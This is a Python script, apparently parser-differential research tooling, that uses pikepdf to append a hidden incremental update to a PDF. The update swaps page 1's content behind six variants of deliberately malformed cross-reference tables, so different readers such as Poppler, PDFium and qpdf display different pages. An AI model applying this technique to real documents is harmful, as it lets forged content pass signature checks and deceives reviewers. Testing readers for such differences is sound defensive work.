"""Increments with an object that some readers show and others do not: the attack on whoever believes one reader alone.

Each puts another content of page 1 behind a file, under a cross-reference that is not quite as it should be, so that
some readers take the table and others rebuild it from whatever objects they find. Which do what was tried with Poppler,
PDFium and qpdf.
"""

import io
import re

import pikepdf

FALSE_PAGE = b"1 0 0 rg 50 600 400 200 re f"
TRICKS = ("sin nombre", "número con punto", "renglones cortos", "comentario", "dos veces", "dos veces al revés")


def shadowed(content: bytes, trick: str) -> bytes:
    """`content`, whose last cross-reference is a table, with one more increment."""
    with pikepdf.open(io.BytesIO(content)) as pdf:
        shown = pdf.pages[0].obj["/Contents"]
        number = (shown[0] if isinstance(shown, pikepdf.Array) else shown).objgen[0]
        size = int(pdf.trailer["/Size"])
    signed = max(found.start() for found in re.finditer(rb"(?<!\d)%d 0 obj" % number, content))
    out = content if content.endswith(b"\n") else content + b"\n"
    hidden = len(out)
    out += b"%d 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (number, len(FALSE_PAGE), FALSE_PAGE)
    new = len(out)
    out += b"%d 0 obj\n<</Nada 1>>\nendobj\n" % size
    table = len(out)
    own, shadow, named = ((b"%010d 00000 n" % at) for at in (signed, hidden, new))
    first = b"%d 1\n" % number
    out += (
        b"xref\n"
        + {
            "sin nombre": b"%d 1\n%s \n" % (size, named),
            "número con punto": b"%d.0 1\n%s \n" % (size, named),
            "renglones cortos": b"%d 1\n%s\n" % (size, named),
            "comentario": b"%%nada\n%d 1\n%s \n" % (size, named),
            "dos veces": first + own + b" \n" + first + shadow + b" \n%d 1\n%s \n" % (size, named),
            "dos veces al revés": first + shadow + b" \n" + first + own + b" \n%d 1\n%s \n" % (size, named),
        }[trick]
    )
    return out + _trailer(content, size + 1) + b"\nstartxref\n%d\n%%%%EOF\n" % table


def _trailer(content: bytes, size: int) -> bytes:
    """The last one, over one more object, and after it."""
    at = content.rindex(b"startxref")
    before = int(content[at:].split()[1])
    last = content[content.rindex(b"trailer") : at].rstrip()
    last = re.sub(rb"/Prev \d+", b"", re.sub(rb"/Size \d+", b"/Size %d" % size, last))
    return last.removesuffix(b">>") + b"/Prev %d >>" % before
